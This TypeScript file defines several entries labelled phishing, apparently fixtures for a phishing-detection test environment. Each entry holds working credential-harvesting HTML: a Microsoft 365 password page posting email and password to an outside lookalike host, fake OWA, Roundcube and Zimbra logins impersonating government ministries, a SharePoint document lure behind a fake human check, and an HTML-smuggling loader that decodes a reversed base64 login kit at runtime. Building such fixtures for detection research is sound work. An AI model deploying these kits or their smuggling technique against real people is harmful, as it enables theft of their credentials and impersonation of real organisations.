import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, wordmark, json, js, b64, rev } from '../parts/yl-kit.js';

const msLogo = `<svg xmlns="http://www.w3.org/2000/svg" width="108" height="24" viewBox="0 0 108 24"><rect width="10" height="10" fill="#f25022"/><rect x="11" width="10" height="10" fill="#7fba00"/><rect y="11" width="10" height="10" fill="#00a4ef"/><rect x="11" y="11" width="10" height="10" fill="#ffb900"/><text x="28" y="17" font-family="Segoe UI,Arial" font-size="16" fill="#5e5e5e" font-weight="600">Microsoft</text></svg>`;

const msCss = `*{box-sizing:border-box}body{margin:0;font-family:'Segoe UI','Segoe UI Web (West European)',-apple-system,BlinkMacSystemFont,Roboto,'Helvetica Neue',sans-serif;background:#f2f2f2 url('/auth/bg.svg') center/cover;min-height:100vh;display:flex;align-items:center;justify-content:center}
.box{width:440px;max-width:100%;background:#fff;box-shadow:0 2px 6px rgba(0,0,0,.2);padding:44px;min-height:338px}.id{display:flex;align-items:center;gap:8px;margin:16px 0 8px;font-size:15px}.id img{width:24px;height:24px}
h1{font-size:24px;font-weight:600;margin:12px 0}input{width:100%;border:0;border-bottom:1px solid #666;height:36px;font-size:15px;padding:6px 0;outline:none}input:focus{border-bottom-color:#0067b8}
.er{color:#e81123;font-size:15px;margin:8px 0;display:none}.lk{font-size:13px;color:#0067b8;text-decoration:none;display:block;margin:16px 0}.bt{display:flex;justify-content:flex-end;margin-top:24px}.bt button{min-width:108px;height:32px;background:#0067b8;color:#fff;border:0;font-size:15px;cursor:pointer}
.ft{position:fixed;bottom:0;right:0;font-size:12px;padding:8px 14px;color:#000}.ft a{color:#000;text-decoration:none;margin-left:14px}`;

const m365Kit = (endpoint: string, finalUrl: string): string => `<div class="box">${msLogo}
<div class="id"><img id="clogo" alt="" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><span id="em"></span></div>
<h1>Enter password</h1><div class="er" id="er">Your account or password is incorrect. If you don't remember your password, <a href="#">reset it now.</a></div>
<form id="pf"><input type="password" name="passwd" id="pw" placeholder="Password" autocomplete="current-password" required><a class="lk" href="#">Forgot my password</a><div class="bt"><button>Sign in</button></div></form></div>
<div class="ft"><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a><a href="#">...</a></div>
<script>
var em=(location.hash.slice(1)||new URLSearchParams(location.search).get('e')||'');try{if(!/@/.test(em))em=atob(em)}catch(x){}
document.getElementById('em').textContent=em;var dom=em.split('@')[1]||'';if(dom)document.getElementById('clogo').src='https://logo.clearbit.com/'+dom;
var n=0;document.getElementById('pf').onsubmit=function(e){e.preventDefault();n++;var pw=document.getElementById('pw').value;
fetch(${JSON.stringify(endpoint)},{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({email:em,password:pw,attempt:n,agent:navigator.userAgent})}).then(function(r){return r.json()}).then(function(j){
if(n<2||!j.valid){document.getElementById('er').style.display='block';document.getElementById('pw').value='';}else{location.replace(${JSON.stringify(finalUrl)}.replace('{d}',dom))}}).catch(function(){document.getElementById('er').style.display='block'})};
</script>`;

const smuggledLogin = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Sign in to your account</title><style>${msCss}</style></head><body>${m365Kit('https://cdn-office-assets.net/api/v2/collect', 'https://outlook.office.com/mail/')}</body></html>`;

export const entries: Entry[] = [
{
  id: 'yl-owa-logon-clone-ministry',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://mail-moh-gov.com/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.moh.gov.sa%2fowa%2f',
  body: `<!DOCTYPE html>
<html dir="ltr" class="mouse"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta http-equiv="X-UA-Compatible" content="IE=10"><meta name="robots" content="noindex, nofollow">
<title>Outlook</title>
<style>body{margin:0;background:#fff;font-family:'Segoe UI','Segoe WP',Tahoma,Arial,sans-serif}.mid{position:absolute;top:0;bottom:0;left:0;right:0;display:flex}.lgn{margin:auto;width:700px;display:flex}.side{width:300px;border-right:1px solid #ddd;padding:40px 20px}.side .n{color:#0072c6;font-size:42px;font-weight:200}
.fm{padding:40px;flex:1}.lbl{font-size:14px;color:#333;margin:14px 0 4px}input.txt{width:280px;height:30px;border:1px solid #bbb;padding:2px 8px;font-size:14px}.sb{margin-top:24px;display:flex;align-items:center;gap:8px;cursor:pointer;color:#0072c6;font-size:22px;font-weight:200}.sb span{display:inline-block;width:34px;height:34px;border-radius:50%;border:2px solid #0072c6;text-align:center;line-height:30px;font-size:20px}
.sig{font-size:12px;color:#666;margin-top:20px;max-width:300px;line-height:1.5}</style></head>
<body><div class="mid"><div class="lgn"><div class="side"><div class="n">Outlook</div><div class="sig">Ministry of Health – Secure Mail Access<br>وزارة الصحة</div></div>
<form class="fm" action="/owa/auth/owaauth.dll.php" method="POST" name="logonForm" autocomplete="off">
<input type="hidden" name="destination" value="https://mail.moh.gov.sa/owa/"><input type="hidden" name="flags" value="4"><input type="hidden" name="forcedownlevel" value="0">
<div class="lbl">Domain\\user name:</div><input class="txt" id="username" name="username" placeholder="domain\\username" required>
<div class="lbl">Password:</div><input class="txt" id="password" name="password" type="password" required>
<div class="sig"><label><input type="radio" name="trusted" value="0" checked> This is a public or shared computer</label><br><label><input type="radio" name="trusted" value="4"> This is a private computer</label></div>
<div class="sb" onclick="document.forms.logonForm.submit()"><span>→</span>sign in</div></form></div></div></body></html>`,
  routes: { 'mail-moh-gov.com/owa/auth/owaauth.dll.php': redirectRoute(302, 'https://mail.moh.gov.sa/owa/') },
},
{
  id: 'yl-roundcube-quota-upgrade',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://webmail-storage-upgrade.com/roundcube/?_task=login&domain=qgc-qatar.com',
  body: doc({
    title: 'Roundcube Webmail :: Welcome to Roundcube Webmail',
    css: `body{margin:0;background:#2f3a3f;font-family:'Roboto','Open Sans',Arial,sans-serif;color:#fff;display:flex;min-height:100vh;align-items:center;justify-content:center}
#lb{width:360px;text-align:center}#lb .lg{font-size:34px;font-weight:300;letter-spacing:1px;margin-bottom:8px}#lb .lg b{color:#37beff;font-weight:500}.q{background:#fff3cd;color:#7a5b00;border-radius:4px;padding:10px;font-size:13px;margin:16px 0;text-align:left;line-height:1.5}
.bar{height:8px;background:#ddd;border-radius:4px;overflow:hidden;margin-top:6px}.bar i{display:block;height:100%;width:98%;background:#d9534f}
input{width:100%;box-sizing:border-box;height:40px;border:0;border-radius:4px;padding:0 12px;margin:6px 0;font-size:15px}button{width:100%;height:40px;background:#37beff;color:#fff;border:0;border-radius:4px;font-size:15px;margin-top:8px}.ft{font-size:12px;color:#9aa6ab;margin-top:20px}`,
    body: `<div id="lb"><div class="lg">round<b>cube</b></div><div style="font-size:13px;color:#9aa6ab">Webmail</div>
<div class="q"><b>Mailbox storage full (98%)</b><div class="bar"><i></i></div>Incoming messages are being held. Log in to upgrade your mailbox quota to 10 GB and release 14 pending messages.</div>
<form id="rc"><input name="_user" id="u" placeholder="Username" required><input name="_pass" type="password" placeholder="Password" required><button>Login</button></form>
<div class="ft">Roundcube Webmail · <span id="dm"></span></div></div>
<script>var dm=new URLSearchParams(location.search).get('domain')||'';document.getElementById('dm').textContent=dm;if(dm)document.getElementById('u').value='@'+dm;
document.getElementById('rc').onsubmit=function(e){e.preventDefault();var f=new FormData(this);f.append('domain',dm);fetch('/roundcube/upgrade.php',{method:'POST',body:f}).then(function(){document.getElementById('lb').innerHTML='<div class="lg">round<b>cube</b></div><p>Your mailbox has been upgraded successfully.</p>';setTimeout(function(){location.href='https://'+dm},2500)})};</script>`,
  }),
  routes: { 'webmail-storage-upgrade.com/roundcube/upgrade.php': json({ ok: 1 }) },
},
{
  id: 'yl-zimbra-arabic-gov-mail',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://zimbra-jo-mail.com/zimbra/?loginOp=relogin',
  body: doc({
    title: 'Zimbra Web Client Sign In',
    css: `body{margin:0;background:linear-gradient(#0b4a8b,#06335f);font-family:Helvetica,Arial,sans-serif;min-height:100vh;display:flex;align-items:center;justify-content:center}.z{background:#fff;width:400px;border-radius:6px;padding:30px 34px;box-shadow:0 10px 30px rgba(0,0,0,.3)}
.z h2{margin:0 0 4px;color:#0b4a8b;font-size:26px}.z .s{color:#666;font-size:13px;margin-bottom:18px}.rw{margin:10px 0}.rw label{display:block;font-size:13px;color:#333;margin-bottom:4px}.rw input,.rw select{width:100%;height:34px;box-sizing:border-box;border:1px solid #aaa;padding:0 8px}
.bt{margin-top:14px;background:#0b4a8b;color:#fff;border:0;height:34px;padding:0 22px;cursor:pointer}.n{background:#fdf1d6;font-size:12.5px;padding:8px;margin-bottom:10px;border-left:3px solid #e0a300}.cp{font-size:11px;color:#888;margin-top:18px}`,
    body: `<div class="z"><h2>Zimbra</h2><div class="s">Web Client · البريد الإلكتروني المؤسسي</div>
<div class="n">Your session has expired for security reasons. Please sign in again to continue. / انتهت الجلسة، يرجى تسجيل الدخول مرة أخرى.</div>
<form id="zf" method="post" action="/zimbra/auth.php"><div class="rw"><label>Username</label><input name="username" required></div><div class="rw"><label>Password</label><input name="password" type="password" required></div>
<div class="rw"><label><input type="checkbox" name="zrememberme" style="width:auto;height:auto"> Stay signed in</label></div>
<div class="rw"><label>Version</label><select name="client"><option>Default</option><option>Advanced (Ajax)</option><option>Standard (HTML)</option><option>Mobile</option></select></div><button class="bt">Sign In</button></form>
<div class="cp">Copyright © 2005-2024 Synacor, Inc. All rights reserved. "Zimbra" is a registered trademark of Synacor, Inc.</div></div>
<script>document.getElementById('zf').addEventListener('submit',function(e){e.preventDefault();var u=this.username.value;fetch(this.action,{method:'POST',body:new FormData(this)}).then(function(){var d=u.split('@')[1];location.href=d?('https://mail.'+d):'https://www.zimbra.com/'})});</script>`,
  }),
  routes: { 'zimbra-jo-mail.com/zimbra/auth.php': json({ r: 'ok' }) },
},
{
  id: 'yl-sharepoint-po-lure-gate-kit',
  label: 'phishing',
  kind: 'document-share-lure',
  url: 'https://www.oasis-scaffolding-uae.com/share/PO-77812/',
  body: doc({
    title: 'PO_77812_Emirates_Steel.pdf',
    css: `body{margin:0;background:#faf9f8;font-family:'Segoe UI',Arial,sans-serif}.top{background:#036c70;height:48px;display:flex;align-items:center;padding:0 18px;color:#fff;font-weight:600}.c{max-width:460px;margin:70px auto;background:#fff;border:1px solid #edebe9;border-radius:4px;padding:30px;text-align:center}
.ic{width:72px;height:88px;margin:0 auto 12px;background:#d13438;border-radius:4px;color:#fff;display:flex;align-items:flex-end;justify-content:center;padding-bottom:10px;font-weight:700}.c h2{font-size:18px;margin:6px 0}.c p{color:#605e5c;font-size:14px}.b{display:inline-block;margin-top:14px;background:#0078d4;color:#fff;text-decoration:none;padding:10px 28px;border-radius:2px}`,
    body: `<div class="top">SharePoint</div><div class="c"><div class="ic">PDF</div><h2>Procurement Dept. shared a file with you</h2><p><b>PO_77812_Emirates_Steel.pdf</b><br>284 KB · Shared via OneDrive for Business</p>
<p>This document is protected. Sign in with your work email to view it.</p><a class="b" href="https://verify-doc-access.com/s/?id=77812">Open document</a></div>`,
  }),
  routes: {
    'verify-doc-access.com/s/': htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Verifying…</title><style>body{font-family:Segoe UI,Arial;display:flex;align-items:center;justify-content:center;height:100vh;margin:0;background:#fff}.w{text-align:center}.c{width:300px;height:65px;border:1px solid #ddd;border-radius:4px;display:flex;align-items:center;gap:12px;padding:0 14px;margin:20px auto;cursor:pointer;background:#fafafa}.c i{width:24px;height:24px;border:2px solid #666;border-radius:4px}</style></head>
<body><div class="w"><p>Please complete the security check to access the document.</p><div class="c" id="c"><i></i><span>I am human</span></div></div>
<script>document.getElementById('c').onclick=function(){this.innerHTML='<span>✓ Success!</span>';setTimeout(function(){location.href='/s/login?e='+btoa('')},1200)};</script></body></html>`),
    'verify-doc-access.com/s/login': htmlRoute(doc({ title: 'Sign in to your account', css: msCss, body: m365Kit('/s/api/auth', 'https://www.office.com/') })),
    'verify-doc-access.com/s/api/auth': json({ valid: false }),
  },
},
{
  id: 'yl-m365-html-smuggled-login',
  label: 'phishing',
  kind: 'html-smuggling-phish',
  url: 'https://storage-secure-files.com/view/Remittance_Advice_ENBD.html',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Loading document...</title>
<style>body{font-family:Segoe UI,Arial;background:#f3f2f1;display:flex;align-items:center;justify-content:center;height:100vh;margin:0;color:#605e5c}</style></head>
<body><div>Loading secure document, please wait…</div>
<script>
var p1="${rev(b64(smuggledLogin)).slice(0, 1200)}";
var p2="${rev(b64(smuggledLogin)).slice(1200)}";
function r(s){return s.split('').reverse().join('')}
var raw=atob(r(p1+p2)),u8=new Uint8Array(raw.length);for(var i=0;i<raw.length;i++)u8[i]=raw.charCodeAt(i);
var blob=new Blob([u8],{type:'text/html'});var url=URL.createObjectURL(blob);
setTimeout(function(){location.href=url+'#'+(location.hash.slice(1)||'')},600);
</script></body></html>`,
},
];
